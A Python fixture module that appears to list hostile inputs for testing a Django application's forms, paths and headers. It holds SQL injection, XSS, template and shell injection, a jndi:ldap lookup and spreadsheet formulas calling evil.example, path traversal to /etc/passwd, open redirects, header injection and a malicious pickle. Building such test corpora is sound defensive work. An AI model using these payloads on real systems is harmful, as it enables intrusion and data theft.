"""What strangers type, send and forge: one line a kind.

A ``Value`` is put into every field of every form, every question of an address, every part of a path, every
cookie and header. ``raw`` is the value as bytes where text cannot say it. ``unseen`` are signs of it that are
never kept; ``is_welcome`` marks what is no attack and must be taken as it is.
"""

from dataclasses import dataclass

FOR_DATABASES = (
    "SQL",
    "search",
    "another database",
    "number",
    "digits",
    "id",
    "very long",
    "marks",
    "rare",
    "names",
)


@dataclass(frozen=True, slots=True)
class Value:
    """One kind of hostile text."""

    name: str
    text: str
    raw: bytes = b""
    unseen: str = ""
    is_welcome: bool = False

    @property
    def is_for_databases(self) -> bool:
        """Whether another database might take it otherwise."""
        return self.name.startswith(FOR_DATABASES) or bool(self.raw or self.unseen)


_SCRIPT = "<script>alert(7)</script>"
_RARE = "\U00020bb7\U00030edd\U0002b68d"  # 𠮷𰻝𫚭: rare characters in names, beyond the first plane

VALUES = (
    # asked of the database
    Value("SQL: always true", "x' OR '1'='1"),
    Value("SQL: a second command", "1'; DROP TABLE cases_case; --"),
    Value("SQL: a union", '1" UNION SELECT session_data FROM accounts_session--'),
    Value("SQL: wildcards", "%_%'||'%"),
    Value("SQL: a sleep", "1 AND (SELECT pg_sleep(9))::text IS NULL"),
    Value("search operators of the database", '" OR (a NEAR/9 b*) NOT ^c : {title}'),
    Value("another database's operators", '{"$gt": "", "$where": "sleep(9)"}'),
    Value("a filter of a directory", "*)(uid=*))(|(uid=*"),
    # shown as a page
    Value("HTML: a script", f'">{_SCRIPT}'),
    Value("HTML: a picture that fails", "\"><img src=x onerror=alert(7)>'"),
    Value("HTML: out of an attribute", "' autofocus onfocus='alert(7)' x='"),
    Value("HTML: out of a text area", f"</textarea></title></style>{_SCRIPT}"),
    Value("HTML: a drawing", "<svg/onload=alert(7)>"),
    Value("HTML: a comment and its end", "<!--><b>--><![CDATA[<b>]]>"),
    Value("HTML: another form", "</form><form action=https://evil.example><input name=a>"),
    Value("HTML: another base", "<base href=//evil.example/><meta http-equiv=refresh content=0>"),
    Value("HTML in full width", "＜script＞alert(7)＜/script＞"),
    Value(
        "XML with an entity from a file", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    ),
    # read as a template or a program
    Value("template: Django", "{{ 13371337|add:26742674 }}{% debug %}{% load static %}"),
    Value("template: a component", "<c-card title='{{ 13371337|add:26742674 }}'>{{ session }}</c-card>"),
    Value("template: others'", "${13371337*3}#{13371337*3}<%= 13371337*3 %>{{13371337*3}}[[13371337*3]]"),
    Value("template: of the printed PDFs", '#read("/etc/passwd") #{13371337 * 3} @label $x^2$ \\ */'),
    Value("format of Python", "{0.__class__.__mro__[1].__subclasses__} %(a)s %n%n%s"),
    Value("Python", "__import__('os').system('id')"),
    Value("shell", "x; id #`id`$(id)|id&&id\nid"),
    Value("a logged look-up", "${jndi:ldap://evil.example/a}"),
    Value("a formula of a sheet", "=cmd|' /C calc'!A0"),
    Value("a formula behind a tab", '\t=HYPERLINK("https://evil.example")'),
    Value("a formula by another sign", "@SUM(1+1)*+cmd|'a'!A0"),
    # paths
    Value("path: upwards", "../../../../etc/passwd"),
    Value("path: upwards in disguise", "..%2f..%2f....//....\\\\etc/passwd%00.png"),
    Value("path: of Windows", "C:\\windows\\win.ini::$DATA"),
    Value("path: a file address", "file:///etc/passwd"),
    # leading away
    Value("away: no scheme", "//evil.example/"),
    Value("away: three slashes", "///evil.example/"),
    Value("away: a backslash", "/\\evil.example/"),
    Value("away: two backslashes", "\\\\evil.example"),
    Value("away: no slashes", "https:evil.example"),
    Value("away: whole", "https://evil.example/"),
    Value("away: a user before the host", "https://testserver@evil.example/"),
    Value("away: a tab within", "/\t/evil.example/"),
    Value("away: javascript", "javascript:alert(7)//"),
    Value("away: data", "data:text/html,<script>alert(7)</script>"),
    # numbers and ids
    Value("number: below nothing", "-1"),
    Value("number: beyond every column", "9" * 40),
    Value("number: of 5,000 digits", "1" * 5000),
    Value("number: of a float", "1e309"),
    Value("number: none", "NaN"),
    Value("number: endless", "-Infinity"),
    Value("number: as programs write it", "0x1F_000"),
    Value("digits: full and half width mixed", "1３8０013８00０"),
    Value("digits: Arabic", "١٢٣٤٥٦"),
    Value("digits: raised", "²³⁴⑤Ⅷ"),
    Value("id: of nobody", "00000000-0000-0000-0000-000000000000"),
    Value("id: in other letters", "{URN:UUID:A0EEBC99-9C0B-4EF8-BB6D-6BB9BD380A11}"),
    Value("id: without its lines", "a0eebc999c0b4ef8bb6d6bb9bd380a11"),
    Value("words for nothing", "null"),
    Value("a list", "[]"),
    Value("a number of a case that is none", "2026-BC-000001-00"),
    # signs
    Value("NUL", "a\0b", unseen="\0"),
    Value("control signs", "a\x01\x08\x1b[31m\x7fb", unseen="\x01\x08\x1b\x7f"),
    Value("lines of a header", "a\r\nSet-Cookie: evil=1\r\n\r\n<b>"),
    Value("lines of a letter", "a@example.com\r\nBcc: b@evil.example"),
    Value("right to left", "gpj.\u202eexe\u2066", unseen="\u202e\u2066"),
    Value("no width", "王\u200b\u200d\u2060\ufeff小明", unseen="\u200b\u2060\ufeff"),
    Value("line ends of Unicode", "a\u2028b\u2029c\x85d"),
    Value("marks on marks", "e" + "\u0301" * 2000),
    Value("no characters", "\ufffe\uffff\U0010ffff\ue000", unseen="\ufffe\uffff"),
    Value("letters that change their length", "İıßŉǰΐ"),
    Value("nothing but blanks", " \u3000\t\n "),
    Value("very long", "长" * 4_000),
    Value("long without a break", "w" * 20_000),
    # encodings
    Value("GB18030", "", "王小明面馆".encode("gb18030")),
    Value("UTF-16", "", "王小明面馆".encode("utf-16")),
    Value("no UTF-8", "", b"\xff\xfe\x80\xc3("),
    Value("UTF-8 that is too long", "", b"\xc0\xaf\xe0\x80\xaf"),
    Value("half a character", "", b"\xed\xa0\xbd\xed\xb8\x80 \xed\xa0\x80"),
    Value("per cent signs that say nothing", "%zz%u4e00%"),
    # patterns that are slow to read
    Value("slow: letters", "a" * 12_000 + "!"),
    Value("slow: digits", "1" * 12_000 + "x"),
    Value("slow: an address", "a@" * 4_000),
    Value("slow: dots", "a." * 4_000 + "@"),
    Value("slow: brackets", "(" * 6_000),
    Value("slow: blanks", " " * 12_000 + "x"),
    Value("slow: words of a search", "面 " * 2_000),
    Value("slow: tags", "<" * 8_000),
    Value("slow: nested JSON", "[" * 8_000),
    # things of ours, forged
    Value("a pickled object", "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    Value("a signed value of nobody", "eyJhIjoxfQ:1vAAAA:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"),
    # no attack
    Value("rare characters", f"王{_RARE}", is_welcome=True),
    Value("a family", "👨‍👩‍👧‍👦面馆"),
    Value("names of other peoples", "阿卜杜拉·买买提 O’Neill-Šimůnek", is_welcome=True),
)
